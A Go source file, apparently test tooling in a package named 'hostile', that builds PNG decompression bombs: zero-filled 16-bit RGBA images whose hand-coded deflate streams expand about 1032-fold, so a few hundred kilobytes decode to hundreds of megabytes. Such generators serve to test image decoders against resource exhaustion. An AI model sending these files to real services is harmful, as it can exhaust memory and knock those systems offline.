package hostile

import (
	"encoding/binary"
	"hash/crc32"
)

// PNG generators. A PNG row of zeros filtered with filter type 0 (None)
// is a zero byte followed by zero samples, so a picture of zeros is one
// long run of zero bytes in its zlib stream. Deflate codes it at its best
// ratio, 1032:1: one literal, then length-258 matches at distance 1 coded
// in one bit each (see zeroDeflate). A 7000x7000 16-bit RGBA picture
// (392 MB decoded, 8 bytes per pixel) is then a 381 KB file.

// PNGBomb returns a w x h PNG of 16-bit RGBA samples, all zero
// (transparent black), Adam7-interlaced if interlaced is true. It is
// built without compressing anything, so it costs what its size does.
// w and h must be 1..2^31-1; memory aside, anything goes.
func PNGBomb(w, h int, interlaced bool) []byte {
	raw := rawSize(w, h, 8)
	ilace := byte(0)
	if interlaced {
		ilace = 1
		raw = 0
		for _, p := range adam7 {
			pw := (w - p.x0 + p.dx - 1) / p.dx
			ph := (h - p.y0 + p.dy - 1) / p.dy
			if pw > 0 && ph > 0 {
				raw += rawSize(pw, ph, 8)
			}
		}
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9], ihdr[12] = 16, 6, ilace // depth 16, RGBA, interlace
	out := []byte("\x89PNG\r\n\x1a\n")
	out = pngChunk(out, "IHDR", ihdr)
	out = pngChunk(out, "IDAT", ZlibZeros(raw))
	return pngChunk(out, "IEND", nil)
}

// rawSize is the length of the filtered data of a w x h pass with bpp
// bytes per pixel: a filter byte and w*bpp bytes per row.
func rawSize(w, h, bpp int) int64 { return int64(h) * (1 + int64(w)*int64(bpp)) }

// adam7 lists the seven passes of PNG interlacing: first column and row,
// and the steps between them.
var adam7 = [7]struct{ x0, y0, dx, dy int }{
	{0, 0, 8, 8}, {4, 0, 8, 8}, {0, 4, 4, 8}, {2, 0, 4, 4},
	{0, 2, 2, 4}, {1, 0, 2, 2}, {0, 1, 1, 2},
}

// pngChunk appends a chunk of type typ with payload p and its CRC.
func pngChunk(out []byte, typ string, p []byte) []byte {
	out = binary.BigEndian.AppendUint32(out, uint32(len(p)))
	start := len(out)
	out = append(out, typ...)
	out = append(out, p...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[start:]))
}

// ZlibZeros returns a zlib stream (RFC 1950) that inflates to n zero
// bytes, at about n/1032 bytes: the densest deflate allows.
func ZlibZeros(n int64) []byte {
	out := []byte{0x78, 0xDA} // deflate, 32K window, "best compression"; 0x78DA % 31 == 0
	out = zeroDeflate(out, n)
	// Adler-32 of n zeros: s1 stays 1, s2 adds 1 per byte.
	return binary.BigEndian.AppendUint32(out, uint32(n%65521)<<16|1)
}

// zeroDeflate appends one final dynamic-Huffman deflate block (RFC 1951
// 3.2.7) inflating to n zero bytes. Its literal/length code has three
// symbols: 285 (length 258) coded "0", literal 0 "10" and end-of-block
// "11"; its distance code the single symbol 0 (distance 1) coded "0". The
// data is a literal zero, then one two-bit match of 258 per 258 bytes and
// literals for the rest.
func zeroDeflate(out []byte, n int64) []byte {
	w := lsbWriter{out: out}
	w.put(1, 1)  // BFINAL
	w.put(2, 2)  // BTYPE dynamic
	w.put(29, 5) // HLIT: 286 literal/length codes
	w.put(0, 5)  // HDIST: 1 distance code
	w.put(14, 4) // HCLEN: 18 code length codes
	// Code length code lengths in the order 16, 17, 18, 0, 8, 7, 9, 6,
	// 10, 5, 11, 4, 12, 3, 13, 2, 14, 1: symbol 18 (run of zeros) 1 bit,
	// symbols 2 and 1 two bits each; canonical codes 18="0", 1="10",
	// 2="11".
	for _, l := range [18]uint64{0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2} {
		w.put(l, 3)
	}
	one, two := func() { w.code(0b10, 2) }, func() { w.code(0b11, 2) }
	zeros := func(k uint64) { w.code(0, 1); w.put(k-11, 7) } // symbol 18: 11..138 zeros
	two()                                                    // literal 0: length 2
	zeros(138)                                               // literals 1..138
	zeros(117)                                               // literals 139..255
	two()                                                    // 256 (end of block): length 2
	zeros(28)                                                // 257..284
	one()                                                    // 285 (length 258): length 1
	one()                                                    // distance 0: length 1
	if n > 0 {
		w.code(0b10, 2) // literal 0
		n--
	}
	for ; n >= 258*32; n -= 258 * 32 {
		w.put(0, 64) // 32 matches: symbol 285 "0", distance 0 "0"
	}
	for ; n >= 258; n -= 258 {
		w.put(0, 2)
	}
	for ; n > 0; n-- {
		w.code(0b10, 2)
	}
	w.code(0b11, 2) // end of block
	return w.flush()
}

// lsbWriter appends bits least significant first, as deflate and LZW
// (GIF, VP8L) pack them.
type lsbWriter struct {
	out  []byte
	acc  uint64
	nacc uint
}

// put writes the low n (<= 64) bits of v, least significant first.
func (b *lsbWriter) put(v uint64, n uint) {
	for n > 0 {
		k := min(n, 64-b.nacc, 32)
		b.acc |= (v & (1<<k - 1)) << b.nacc
		b.nacc += k
		v >>= k
		n -= k
		for b.nacc >= 8 {
			b.out = append(b.out, byte(b.acc))
			b.acc >>= 8
			b.nacc -= 8
		}
	}
}

// code writes a Huffman code of n bits, most significant bit first, as
// deflate and VP8L send them.
func (b *lsbWriter) code(c uint64, n uint) {
	for i := int(n) - 1; i >= 0; i-- {
		b.put(c>>uint(i)&1, 1)
	}
}

// flush pads the last byte with zero bits and returns the output.
func (b *lsbWriter) flush() []byte {
	if b.nacc > 0 {
		b.out = append(b.out, byte(b.acc))
		b.acc, b.nacc = 0, 0
	}
	return b.out
}
